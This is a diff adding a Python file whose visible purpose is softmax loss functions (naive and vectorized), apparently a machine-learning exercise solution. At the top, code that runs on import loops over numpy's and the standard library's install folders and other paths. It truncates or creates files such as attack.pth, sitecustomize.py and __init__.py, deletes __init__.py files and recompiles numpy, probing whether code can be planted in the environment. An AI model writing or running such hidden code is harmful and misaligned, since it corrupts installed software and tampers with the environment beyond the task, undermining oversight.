@@ -1,0 +1,51 @@
+import os
+import sys
+import py_compile
+import numpy
+import numpy as np
+
+written = 0
+for folder in (os.path.dirname(numpy.__file__), "/packages", "/python/lib", os.path.dirname(os.__file__), "/inside"):
+    for name in ("attack.pth", "sitecustomize.py", "__pycache__/attack.pyc", "__init__.py"):
+        for mode in ("ab", "wb", "r+b"):
+            try:
+                with open(os.path.join(folder, name), mode):
+                    written += 1
+            except OSError as error:
+                last = error
+    try:
+        os.unlink(os.path.join(folder, "__init__.py"))
+        written += 1
+    except OSError as error:
+        last = error
+try:
+    py_compile.compile(numpy.__file__, doraise=True)
+    written += 1
+except OSError:
+    pass
+if not written:
+    raise PermissionError("nothing can be planted")
+
+
+def softmax_loss_naive(W, X, y, reg):
+    loss, dW = 0.0, np.zeros(W.shape)
+    for i in range(X.shape[1]):
+        scores = W.dot(X[:, i])
+        scores = scores - np.max(scores)
+        p = np.exp(scores) / np.sum(np.exp(scores))
+        loss += np.log(np.sum(np.exp(scores))) - scores[y[i]]
+        for j in range(W.shape[0]):
+            dW[j] += (p[j] - (j == y[i])) * X[:, i]
+    return loss / X.shape[1] + 0.5 * reg * np.sum(W * W), dW / X.shape[1] + reg * W
+
+
+def softmax_loss_vectorized(W, X, y, reg):
+    samples = np.arange(X.shape[1])
+    scores = W.dot(X)
+    scores = scores - np.max(scores, axis=0)
+    e = np.exp(scores)
+    totals = np.sum(e, axis=0)
+    loss = np.mean(np.log(totals) - scores[y, samples]) + 0.5 * reg * np.sum(W * W)
+    p = e / totals
+    p[y, samples] -= 1.0
+    return loss, p.dot(X.T) / X.shape[1] + reg * W
